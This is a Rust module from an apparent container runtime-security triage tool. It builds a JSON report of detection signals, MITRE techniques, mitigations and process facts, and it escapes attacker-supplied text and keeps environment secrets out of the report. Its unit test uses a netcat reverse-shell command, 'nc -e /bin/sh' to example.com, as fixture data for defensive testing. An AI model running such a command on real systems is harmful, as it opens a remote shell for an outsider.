//! The `triage.report` JSON object. Attacker text is escaped and bounded; the environment is
//! never copied (it holds secrets), only counted.

use super::{escape, Rendered};
use crate::analysis::{Lineage, Verdict};
use crate::facts::{ExeFlags, ExecFacts};
use crate::knowledge::ATTACK_VERSION;
use serde_json::{json, Value};

const MAX_ARG: usize = 256;
const MAX_ARGS: usize = 64;

pub fn exe_flag_names(bits: u32) -> Vec<&'static str> {
    [
        (ExeFlags::WRITABLE, "EXE_WRITABLE"),
        (ExeFlags::UPPER_LAYER, "EXE_UPPER_LAYER"),
        (ExeFlags::FROM_MEMFD, "EXE_FROM_MEMFD"),
        (ExeFlags::LOWER_LAYER, "EXE_LOWER_LAYER"),
    ]
    .iter()
    .filter(|(b, _)| bits & b != 0)
    .map(|(_, n)| *n)
    .collect()
}

pub fn render(facts: &ExecFacts, lineage: &Lineage, v: &Verdict, text: &Rendered) -> Value {
    let esc = |s: &str| escape(s, MAX_ARG);
    let signals: Vec<Value> = v
        .hits
        .iter()
        .map(|h| json!({"id": h.signal.id, "title": h.signal.title, "level": h.signal.level, "weight": h.signal.weight, "category": h.signal.category, "evidence": escape(&h.evidence, 240)}))
        .collect();
    let techniques: Vec<Value> = v
        .techniques
        .iter()
        .map(|t| json!({"id": t.id, "name": t.name}))
        .collect();
    let tactics: Vec<Value> = v
        .tactics
        .iter()
        .map(|t| json!({"id": t.id, "name": t.name}))
        .collect();
    let mitigations: Vec<Value> = v
        .mitigations
        .iter()
        .map(|m| json!({"id": m.id, "text": m.text, "docker": m.docker, "kubernetes": m.kubernetes, "source": m.source}))
        .collect();
    let argv: Vec<String> = facts.argv.iter().take(MAX_ARGS).map(|a| esc(a)).collect();
    let lineage_v: Vec<Value> = lineage
        .ancestors
        .iter()
        .take(16)
        .map(|a| json!({"comm": esc(&a.comm), "exe": a.exe.as_deref().map(esc)}))
        .collect();
    json!({
        "risk": v.risk,
        "severity": v.severity.as_str(),
        "category": v.category,
        "summary": text.summary,
        "test_activity": v.test_activity,
        "signals": signals,
        "mitre": {"techniques": techniques, "tactics": tactics, "attack_version": ATTACK_VERSION},
        "mitigations": mitigations,
        "evidence": text.evidence,
        "facts": {
            "argv": argv,
            "argv_truncated": facts.argv_truncated || facts.argv.len() > MAX_ARGS,
            "exe_path": facts.exe_path.as_deref().map(esc),
            "comm": facts.comm.as_deref().map(esc),
            "cwd": facts.cwd.as_deref().map(esc),
            "uid": facts.uid,
            "gid": facts.gid,
            "loginuid": facts.loginuid.map(|l| if l == u32::MAX { -1 } else { i64::from(l) }),
            "tty": facts.tty,
            "res": facts.res,
            "exe_flags": facts.exe_flags.map(|f| exe_flag_names(f.0)),
            "container": facts.container.as_ref().map(|c| json!({"id": esc(&c.short_id), "runtime": format!("{:?}", c.runtime).to_ascii_lowercase()})),
            "cap_effective": facts.caps.effective.map(|c| format!("{c:#x}")),
            "env_count": facts.env.len(),
        },
        "lineage": lineage_v,
        "lineage_known": lineage.known,
    })
}

#[cfg(test)]
mod tests {
    use crate::analysis::{analyze, Lineage};
    use crate::facts::{ContainerInfo, ContainerRuntime, ExeFlags, ExecFacts};

    #[test]
    fn seed_report_has_the_contract_keys_and_true_hints() {
        let f = ExecFacts {
            argv: ["nc", "-e", "/bin/sh", "example.com", "22"]
                .iter()
                .map(|s| s.to_string())
                .collect(),
            exe_path: Some("/usr/bin/nc.openbsd".into()),
            uid: Some(0),
            res: Some(0),
            exe_flags: Some(ExeFlags(ExeFlags::WRITABLE | ExeFlags::LOWER_LAYER)),
            container: Some(ContainerInfo {
                runtime: ContainerRuntime::Docker,
                short_id: "1d45a96b1daa".into(),
            }),
            env: vec!["AWS_SECRET_ACCESS_KEY=hunter2".into()],
            cgroups_present: true,
            ..Default::default()
        };
        let l = Lineage::from_comms(["event-generator"]);
        let v = analyze(&f, &l);
        let j = super::render(&f, &l, &v, &crate::report::render(&f, &l, &v));
        for k in [
            "risk",
            "severity",
            "category",
            "signals",
            "mitre",
            "summary",
            "mitigations",
            "evidence",
            "test_activity",
            "facts",
            "lineage",
        ] {
            assert!(j.get(k).is_some(), "missing {k}");
        }
        assert_eq!(j["test_activity"], true);
        assert_eq!(j["mitre"]["attack_version"], "16.1");
        assert_eq!(j["mitigations"][0]["id"], "allowlist_test_activity");
        assert!(j["facts"]["exe_flags"]
            .as_array()
            .is_some_and(|a| a.len() == 2));
        let text = j.to_string();
        assert!(!text.contains("hunter2"), "env must not leak");
        for bad in [
            "--securityOpt",
            "--netcat-opt",
            "--security-opt noexec",
            "--security-opt nosuid",
        ] {
            assert!(!text.contains(bad));
        }
        assert!(
            v.risk < 50,
            "test activity stays below Warning, got {}",
            v.risk
        );
        assert!(v.techniques.iter().any(|t| t.id == "T1059.004"));
    }
}
